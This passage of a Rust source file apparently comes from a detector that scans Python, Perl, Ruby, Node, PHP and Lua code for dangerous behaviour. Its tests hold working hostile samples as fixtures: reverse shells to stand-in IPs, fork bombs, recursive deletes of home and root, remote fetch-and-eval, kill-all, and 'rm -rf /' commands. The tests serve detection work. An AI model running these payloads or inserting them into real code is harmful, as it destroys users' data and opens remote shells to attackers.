                            i > 0 && src.ident(i - 1).is_some_and(|w| loop_method(lang, w))
                        }
                        Lang::Perl | Lang::Node | Lang::Php => self.top().stmt.loop_kw,
                        Lang::Python | Lang::Lua => false,
                    };
                    self.push(Closer::Brace, is_loop);
                }
                ")" => self.close(Closer::Paren),
                "]" => self.close(Closer::Bracket),
                "}" => {
                    self.close(Closer::Brace);
                    if matches!(lang, Lang::Perl | Lang::Node | Lang::Php) {
                        self.end_statement();
                    }
                }
                ";" if lang != Lang::Python => self.end_statement(),
                _ => {}
            },
            Kind::Ident if matches!(lang, Lang::Node | Lang::Php) && loop_method(lang, text) => {
                self.top().stmt.loop_kw = true;
            }
            Kind::Ident if !src.follows_member_op(i) && !src.is_variable(i) => match lang {
                Lang::Ruby => self.ruby_keyword(i, text),
                Lang::Lua => self.lua_keyword(text),
                _ => {
                    if loop_keyword(lang, text) {
                        self.top().stmt.loop_kw = true;
                    }
                }
            },
            _ => {}
        }
    }

    /// Whether the keyword at `i` modifies the statement before it (`fork while fork`).
    fn is_modifier(&self, i: usize) -> bool {
        let src = self.src;
        i > 0
            && !src.tokens[i].nl_before
            && ends_operand(src.lang, src.tokens[i - 1].kind, src.text(i - 1))
    }

    fn ruby_keyword(&mut self, i: usize, word: &str) {
        match word {
            "while" | "until" if self.is_modifier(i) => self.top().stmt.loop_kw = true,
            "while" | "until" | "for" => {
                self.push(Closer::End, true);
                self.top().pending_do = true;
            }
            "if" | "unless" if !self.is_modifier(i) => self.push(Closer::End, false),
            "case" | "def" | "class" | "module" | "begin" => self.push(Closer::End, false),
            "do" => {
                let loops = i > 0
                    && self
                        .src
                        .ident(i - 1)
                        .is_some_and(|w| loop_method(Lang::Ruby, w));
                self.open_do(loops);
            }
            "end" => self.close(Closer::End),
            _ => {}
        }
    }

    fn lua_keyword(&mut self, word: &str) {
        match word {
            "while" | "for" => {
                self.push(Closer::End, true);
                self.top().pending_do = true;
            }
            "repeat" => self.push(Closer::Until, true),
            "until" => self.close(Closer::Until),
            "if" | "function" => self.push(Closer::End, false),
            "do" => self.open_do(false),
            "end" => self.close(Closer::End),
            _ => {}
        }
    }

    /// `do` either belongs to the `while`/`for` just opened or opens a block of its own.
    fn open_do(&mut self, loops: bool) {
        let top = self.top();
        if top.pending_do {
            top.pending_do = false;
        } else {
            self.push(Closer::End, loops);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn facts(lang: Lang, code: &str) -> CodeFacts {
        inspect(lang, code)
    }

    fn deletes(lang: Lang, code: &str) -> Vec<(String, bool)> {
        facts(lang, code)
            .deletes
            .into_iter()
            .map(|d| (d.target, d.recursive))
            .collect()
    }

    fn del(target: &str, recursive: bool) -> Vec<(String, bool)> {
        vec![(target.to_string(), recursive)]
    }

    fn commands(lang: Lang, code: &str) -> Vec<String> {
        facts(lang, code).shell_commands
    }

    fn nothing(lang: Lang, code: &str) {
        assert_eq!(facts(lang, code), CodeFacts::default(), "{lang:?}: {code}");
    }

    #[test]
    fn recursive_deletes_of_home_and_root() {
        let node = "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})";
        assert_eq!(deletes(Lang::Node, node), del("~", true));
        assert_eq!(
            deletes(Lang::Python, r#"import shutil; shutil.rmtree("/")"#),
            del("/", true)
        );
        assert_eq!(
            deletes(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)"),
            del("~", true)
        );
        assert_eq!(deletes(Lang::Ruby, "FileUtils.rm_rf '/'"), del("/", true));
        assert_eq!(
            deletes(Lang::Perl, r#"use File::Path; rmtree("/")"#),
            del("/", true)
        );
        assert_eq!(
            deletes(
                Lang::Perl,
                "use File::Path qw(remove_tree); remove_tree($ENV{HOME})"
            ),
            del("~", true)
        );
        assert_eq!(
            deletes(Lang::Python, "import os; os.removedirs('/usr/lib')"),
            del("/usr/lib", true)
        );
        assert_eq!(
            deletes(
                Lang::Python,
                "from shutil import rmtree as nuke\nnuke(Path.home() / 'src')"
            ),
            del("~/src", true)
        );
    }

    #[test]
    fn single_file_deletes() {
        let ssh = r#"import os; os.remove(os.path.expanduser("~/.ssh/id_rsa"))"#;
        assert_eq!(deletes(Lang::Python, ssh), del("~/.ssh/id_rsa", false));
        assert_eq!(
            deletes(
                Lang::Python,
                "from pathlib import Path; (Path.home() / '.bashrc').unlink()"
            ),
            del("~/.bashrc", false)
        );
        assert_eq!(
            deletes(
                Lang::Python,
                "import os; os.unlink(os.path.join(os.environ['HOME'], '.profile'))"
            ),
            del("~/.profile", false)
        );
        assert_eq!(
            deletes(Lang::Python, "import os; os.remove(name)"),
            del("?", false)
        );
        assert_eq!(
            deletes(Lang::Node, "fs.unlinkSync(process.env.HOME + '/.profile')"),
            del("~/.profile", false)
        );
        assert_eq!(
            deletes(Lang::Node, "fs.rmSync('/tmp/x')"),
            del("/tmp/x", false)
        );
        assert_eq!(
            deletes(Lang::Perl, r#"unlink "$ENV{HOME}/.bashrc""#),
            del("~/.bashrc", false)
        );
        assert_eq!(
            deletes(Lang::Php, r#"unlink(getenv("HOME") . "/.bashrc");"#),
            del("~/.bashrc", false)
        );
        assert_eq!(
            deletes(Lang::Lua, r#"os.remove(os.getenv("HOME") .. "/x")"#),
            del("~/x", false)
        );
        assert_eq!(
            deletes(Lang::Ruby, r##"File.delete("#{ENV['HOME']}/.zshrc")"##),
            del("~/.zshrc", false)
        );
    }

    #[test]
    fn delete_look_alikes_are_nothing() {
        nothing(
            Lang::Python,
            r#"import shutil; print(shutil.disk_usage("/"))"#,
        );
        nothing(
            Lang::Python,
            r#"import os; print(os.listdir(os.path.expanduser("~")))"#,
        );
        nothing(Lang::Python, "import os\n# os.remove(\"/\")\nprint(1)");
        nothing(Lang::Python, r#"print("shutil.rmtree('/') and os.fork()")"#);
        nothing(Lang::Python, "xs = [1, 2]; xs.remove(1)");
        nothing(Lang::Python, "\"\"\"\nshutil.rmtree('/')\n\"\"\"");
        nothing(
            Lang::Node,
            "/* fs.rmSync('/', {recursive: true}) */ console.log(`rm -rf /`)",
        );
        nothing(
            Lang::Ruby,
            "h = {a: 1}; h.delete(:a); puts 'FileUtils.rm_rf(\"/\")'",
        );
        nothing(
            Lang::Lua,
            "-- os.remove('/etc/passwd')\nprint([[os.execute('rm -rf /')]])",
        );
        nothing(
            Lang::Perl,
            "print q{unlink '/etc/passwd'};\n__END__\nunlink '/'",
        );
        nothing(
            Lang::Php,
            "$pdo->exec('DELETE FROM t'); echo 'unlink(\"/\")';",
        );
    }

    #[test]
    fn writes() {
        let f = facts(Lang::Python, r#"open("/etc/passwd", "a").write("x")"#);
        assert_eq!(f.writes, ["/etc/passwd"]);
        assert_eq!(
            facts(Lang::Python, "open('/etc/hosts', mode='w')").writes,
            ["/etc/hosts"]
        );
        assert_eq!(
            facts(Lang::Python, "Path('/etc/motd').write_text('hi')").writes,
            ["/etc/motd"]
        );
        assert_eq!(
            facts(Lang::Node, "fs.writeFileSync('/etc/hosts', 'x')").writes,
            ["/etc/hosts"]
        );
        assert_eq!(
            facts(
                Lang::Ruby,
                r#"File.open("/etc/hosts", "w") { |f| f.puts 1 }"#
            )
            .writes,
            ["/etc/hosts"]
        );
        assert_eq!(
            facts(Lang::Ruby, r#"File.write(Dir.home + "/.bashrc", "x")"#).writes,
            ["~/.bashrc"]
        );
        assert_eq!(
            facts(Lang::Perl, "open(my $f, '>>', '/etc/profile')").writes,
            ["/etc/profile"]
        );
        assert_eq!(
            facts(Lang::Perl, r#"open(F, ">/tmp/x"); print F 1"#).writes,
            ["/tmp/x"]
        );
        assert_eq!(
            facts(Lang::Php, r#"file_put_contents("/etc/motd", "x");"#).writes,
            ["/etc/motd"]
        );
        assert_eq!(
            facts(Lang::Lua, r#"io.open("/etc/x", "w"):write("y")"#).writes,
            ["/etc/x"]
        );
    }

    #[test]
    fn reads_are_not_writes() {
        nothing(Lang::Python, r#"print(open("/etc/passwd").read())"#);
        nothing(Lang::Python, "open('/etc/passwd', 'rb').read()");
        nothing(
            Lang::Ruby,
            r#"puts File.open("/etc/passwd", "r:utf-8").read"#,
        );
        nothing(Lang::Perl, "open(my $f, '<', '/etc/passwd'); print <$f>");
        nothing(Lang::Php, r#"echo fread(fopen("/etc/passwd", "r"), 10);"#);
        nothing(
            Lang::Node,
            "console.log(fs.readFileSync('/etc/passwd', 'utf8'))",
        );
    }

    #[test]
    fn fork_loops() {
        let cases = [
            (Lang::Ruby, "loop { fork }"),
            (Lang::Ruby, "loop do\n  fork\nend"),
            (Lang::Ruby, "fork while fork"),
            (Lang::Ruby, "while true do Process.fork end"),
            (Lang::Perl, "fork while fork"),
            (Lang::Perl, "fork() while 1"),
            (Lang::Perl, "while(1){fork}"),
            (Lang::Perl, "for(;;) { fork; }"),
            (Lang::Python, "import os\nwhile True: os.fork()"),
            (
                Lang::Python,
                "import os\nwhile True:\n    x = 1\n    os.fork()\n",
            ),
            (
                Lang::Python,
                "from os import fork\nfor _ in iter(int, 1):\n    fork()",
            ),
            (Lang::Php, "while(1) pcntl_fork();"),
            (Lang::Php, "for(;;){ $p = pcntl_fork(); }"),
            (
                Lang::Node,
                "while (true) require('child_process').fork(__filename)",
            ),
            (
                Lang::Lua,
                "local p = require('posix')\nwhile true do p.fork() end",
            ),
        ];
        for (lang, code) in cases {
            assert!(facts(lang, code).fork_loop, "{lang:?}: {code}");
        }
    }

    #[test]
    fn single_forks_are_not_loops() {
        nothing(Lang::Python, "import os; pid = os.fork()");
        nothing(
            Lang::Python,
            "import os\nfor f in range(3):\n    print(f)\npid = os.fork()",
        );
        nothing(Lang::Python, "print('while True: os.fork()')");
        nothing(Lang::Perl, "for my $i (1..3) { print $i } my $pid = fork;");
        nothing(Lang::Ruby, "pid = fork { puts 1 }\nProcess.wait(pid)");
        nothing(Lang::Ruby, "[1, 2].each { |x| puts x }\nfork");
        nothing(Lang::Ruby, "puts <<~EOS\n  fork while fork\nEOS\nputs 2");
        nothing(Lang::Php, "while ($i < 3) { $i++; } $pid = pcntl_fork();");
        nothing(Lang::Perl, "# fork while fork\nprint 'fork while fork'");
    }

    #[test]
    fn reverse_shells() {
        let cases = [
            (
                Lang::Python,
                r#"import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")"#,
            ),
            (
                Lang::Python,
                r#"import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",1234));subprocess.call(["/bin/bash","-i"],stdin=s.fileno(),stdout=s.fileno())"#,
            ),
            (
                Lang::Perl,
                r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(9001,inet_aton("10.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};"#,
            ),
            (
                Lang::Ruby,
                r#"require 'socket';f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#,
            ),
            (
                Lang::Php,
                r#"$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");"#,
            ),
            (
                Lang::Node,
                r#"var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(9001,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"#,
            ),
            (
                Lang::Lua,
                r#"local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",9001);while true do local r=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));f:close();end"#,
            ),
        ];
        for (lang, code) in cases {
            assert!(facts(lang, code).reverse_shell, "{lang:?}: {code}");
        }
    }

    #[test]
    fn plain_sockets_are_not_reverse_shells() {
        nothing(
            Lang::Python,
            r#"import socket; s=socket.socket(); s.connect(("example.org",80)); s.send(b"GET /")"#,
        );
        nothing(
            Lang::Ruby,
            r#"require 'socket'; s = TCPSocket.new("example.org", 80); s.puts "hi""#,
        );
        nothing(
            Lang::Php,
            r#"$f = fsockopen("example.org", 80); fwrite($f, "GET / HTTP/1.0\r\n\r\n");"#,
        );
        nothing(
            Lang::Python,
            r#"print("socket.connect then pty.spawn('/bin/sh')")"#,
        );
    }

    #[test]
    fn remote_code() {
        let cases = [
            (
                Lang::Python,
                r#"import urllib.request; exec(urllib.request.urlopen("https://x/y.py").read())"#,
            ),
            (
                Lang::Python,
                "import requests\neval(requests.get('https://x/y').text)",
            ),
            (
                Lang::Ruby,
                r#"require 'open-uri'; eval(URI.open("https://x/y.rb").read)"#,
            ),
            (
                Lang::Ruby,
                r#"require 'net/http'; eval(Net::HTTP.get(URI("https://x/y.rb")))"#,
            ),
            (
                Lang::Node,
                r#"require('https').get('https://x/y.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })"#,
            ),
            (
                Lang::Node,
                "fetch('https://x/y.js').then(r => r.text()).then(t => new Function(t)())",
            ),
            (Lang::Perl, r#"use LWP::Simple; eval get("https://x/y.pl")"#),
            (Lang::Php, r#"eval(file_get_contents("https://x/y.php"));"#),
            (Lang::Php, r#"include "http://x/y.php";"#),
            (
                Lang::Lua,
                r#"local http = require("socket.http"); load(http.request("http://x/y.lua"))()"#,
            ),
        ];
        for (lang, code) in cases {
            assert!(facts(lang, code).remote_exec, "{lang:?}: {code}");
        }
    }

    #[test]
    fn local_code_is_not_remote() {
        nothing(
            Lang::Python,
            r#"import urllib.request; print(urllib.request.urlopen("https://x").read())"#,
        );
        nothing(
            Lang::Python,
            "import requests; requests.get('https://x'); eval('1 + 1')",
        );
        nothing(Lang::Php, r#"include "config.php";"#);
        nothing(Lang::Ruby, r#"puts "eval(URI.open('https://x').read)""#);
    }

    #[test]
    fn kills_everything() {
        let cases = [
            (
                Lang::Python,
                "import os, signal; os.kill(-1, signal.SIGKILL)",
            ),
            (Lang::Node, "process.kill(-1, 'SIGKILL')"),
            (Lang::Ruby, r#"Process.kill("KILL", -1)"#),
            (Lang::Perl, "kill 9, -1"),
            (Lang::Perl, "kill('KILL', -1);"),
            (Lang::Php, "posix_kill(-1, 9);"),
        ];
        for (lang, code) in cases {
            assert!(facts(lang, code).kills_all, "{lang:?}: {code}");
        }
        nothing(Lang::Python, "import os; os.kill(1234, 9)");
        nothing(Lang::Python, "import os; os.kill(os.getpid(), 9)");
        nothing(Lang::Ruby, r#"Process.kill("TERM", -1 + 2)"#);
    }

    #[test]
    fn shell_commands() {
        assert_eq!(
            commands(Lang::Python, r#"import os; os.system("rm -rf ~")"#),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::Python,
                r#"import subprocess; subprocess.run(["rm","-rf","/tmp/x"])"#
            ),
            ["rm -rf /tmp/x"]
        );
        assert_eq!(
            commands(
                Lang::Python,
                r#"import subprocess as sp; sp.call("rm -rf /", shell=True)"#
            ),
            ["rm -rf /"]
        );
        assert_eq!(
            commands(Lang::Python, r#"subprocess.run(["sh", "-c", "rm -rf /"])"#),
            ["sh -c 'rm -rf /'"]
        );
        assert_eq!(
            commands(Lang::Python, r#"os.system(f"rm -rf {path}")"#),
            ["rm -rf ?"]
        );
        assert_eq!(
            commands(Lang::Python, "os.system('rm -rf ' + d)"),
            ["rm -rf ?"]
        );
        assert_eq!(
            commands(Lang::Python, r#"os.system("echo \"a\\b\" \'c\'")"#),
            [r#"echo "a\b" 'c'"#]
        );
        assert_eq!(commands(Lang::Perl, r#"system("rm -rf /")"#), ["rm -rf /"]);
        assert_eq!(
            commands(Lang::Perl, "my $x = `ls -la`; print qx{whoami}"),
            ["ls -la", "whoami"]
        );
        assert_eq!(
            commands(Lang::Perl, r#"system "rm", "-rf", $ENV{HOME}"#),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(Lang::Ruby, r#"system "rm", "-rf", "/""#),
            ["rm -rf /"]
        );
        assert_eq!(
            commands(Lang::Ruby, "puts `uname -a`; %x(id)"),
            ["uname -a", "id"]
        );
        assert_eq!(
            commands(
                Lang::Node,
                r#"require('child_process').execSync("rm -rf ~")"#
            ),
            ["rm -rf ~"]
        );
        assert_eq!(
            commands(
                Lang::Node,
                r#"const { spawn } = require("child_process"); spawn("rm", ["-rf", "/"])"#
            ),
            ["rm -rf /"]
        );
        assert_eq!(
            commands(
                Lang::Node,
                r#"child_process.execSync(["rm", "-rf", "/"].join(" "))"#
            ),
            ["rm -rf /"]
        );
        assert_eq!(
            commands(Lang::Php, r#"echo shell_exec("rm -rf /");"#),
            ["rm -rf /"]
        );
        assert_eq!(commands(Lang::Php, "echo `ls`;"), ["ls"]);
        assert_eq!(
            commands(Lang::Lua, r#"os.execute("rm -rf ~")"#),
            ["rm -rf ~"]
        );
        assert_eq!(commands(Lang::Lua, "os.execute 'reboot'"), ["reboot"]);
    }

    #[test]
    fn printed_commands_are_nothing() {
        nothing(Lang::Python, r#"print("dd if=/dev/zero of=/dev/sda")"#);
        nothing(Lang::Node, r#"console.log("rm -rf /")"#);
        nothing(Lang::Ruby, r#"puts "rm -rf ~""#);
        nothing(Lang::Perl, r#"print "rm -rf /\n";"#);
        nothing(Lang::Php, r#"echo "system('rm -rf /')";"#);
        nothing(Lang::Lua, r#"print("os.execute('rm -rf /')")"#);
        nothing(Lang::Node, "const re = /os.system('x')/; console.log(re)");
    }

    #[test]
    fn heredocs_are_data() {
        nothing(
            Lang::Ruby,
            "puts <<~EOS\n  system('rm -rf /')\n  fork while fork\nEOS\n",
        );
        nothing(Lang::Perl, "print <<'EOF';\nunlink '/etc/passwd';\nEOF\n");
        nothing(Lang::Php, "echo <<<EOT\nshell_exec('rm -rf /');\nEOT;\n");
        let command = "print <<`CMD`;\nrm -rf /tmp/x\nCMD\n";
        assert_eq!(commands(Lang::Perl, command), ["rm -rf /tmp/x\n"]);
    }

    #[test]
    fn long_input_is_cut_on_a_character_boundary() {
        let mut code = "os.system('ls')\n".to_string();
        while code.len() < MAX_INSPECTED - 1 {
            code.push('#');
        }
        code.push_str("é os.system('rm -rf /')");
        assert_eq!(commands(Lang::Python, &code), ["ls"]);
    }

    #[test]
    fn adversarial_inputs_finish() {
        let n = MAX_INSPECTED / 4;
        for lang in ALL {
            let units = [
                "(",
                "[",
                "{",
                "os.system(",
                "fork while ",
                "do ",
                "while ",
                "end ",
                "`${",
                "f'{",
                "kill ",
                "system ",
                "fs.rmSync(",
                "/[",
                "(/[",
                "eval ",
                "Path(",
                "#{",
            ];
            for prefix in ["", "os.system(f\"", "system \"", "shutil.rmtree("] {
                for unit in units {
                    let code = format!("{prefix}{}", unit.repeat(n / unit.len()));
                    let _ = inspect(lang, &code);
                }
            }
        }
    }

    const ALL: [Lang; 6] = [
        Lang::Python,
        Lang::Perl,
        Lang::Ruby,
        Lang::Node,
        Lang::Php,
        Lang::Lua,
    ];

    /// Fragments of code that exercise the scanner.
    fn fragment() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<char>().prop_map(String::from),
            prop::sample::select(vec![
                "'",
                "\"",
                "`",
                "'''",
                "\"\"\"",
                "#",
                "//",
                "/*",
                "*/",
                "--[[",
                "]]",
                "[==[",
                "<<EOF\n",
                "<<<EOT\n",
                "<<~'E'\n",
                "\nEOF\n",
                "%w(",
                "%x{",
                "qx{",
                "s/a/b/",
                "q(",
                "${",
                "#{",
                "{$",
                "$ENV{HOME}",
                "\\",
                "\n",
                " ",
                "(",
                ")",
                "[",
                "]",
                "{",
                "}",
                ",",
                ";",
                ":",
                ".",
                "->",
                "::",
                "=>",
                "=",
                "-1",
                "f\"",
                "r'",
                "os.system(",
                "subprocess.run([",
                "fork",
                "while ",
                "do ",
                "end",
                "loop ",
                "repeat ",
                "until ",
                "shutil.rmtree(",
                "Path.home() / ",
                "require('fs')",
                "FileUtils.rm_rf ",
                "unlink ",
                "open(F, \">",
                "socket.connect(",
                "exec(",
                "eval ",
                "é",
                "\u{1F600}",
                "\u{0}",
            ])
            .prop_map(str::to_string),
        ]
    }

    fn code(max_fragments: usize) -> impl Strategy<Value = String> {
        prop::collection::vec(fragment(), 0..max_fragments).prop_map(|parts| parts.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_on_short_code(code in code(64), any_text in ".{0,256}") {
            for lang in ALL {
                let _ = inspect(lang, &code);
                let _ = inspect(lang, &any_text);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 6, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_on_long_code(
            code in code(12_000),
            chars in prop::collection::vec(any::<char>(), 0..MAX_INSPECTED),
        ) {
            let any_text: String = chars.into_iter().collect();
            for lang in ALL {
                let _ = inspect(lang, &code);
                let _ = inspect(lang, &any_text);
            }
        }
    }
}
